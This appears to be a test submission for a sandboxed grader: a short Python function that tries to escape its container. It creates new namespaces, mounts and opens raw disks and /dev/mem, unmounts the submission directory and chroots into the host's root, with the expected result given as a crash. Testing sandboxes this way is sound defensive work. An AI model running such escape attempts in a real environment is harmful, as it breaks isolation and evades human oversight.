"""expect: crashed wrong

Tries the ways out of a container: a new name space, a mount, another root, the disk itself.
"""

import ctypes
import os

LIBC = ctypes.CDLL(None)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000


def cleanse(rides):
    """Mount what is hidden."""
    LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS)
    for device in ("/dev/vda", "/dev/sda1", "/dev/mem", "/dev/kmsg"):
        LIBC.mount(device.encode(), b"/tmp", b"ext4", 0, None)
        try:
            os.open(device, os.O_RDWR)
        except OSError:
            continue
    LIBC.umount2(b"/submission", 2)
    LIBC.chroot(b"/proc/1/root")
    return rides
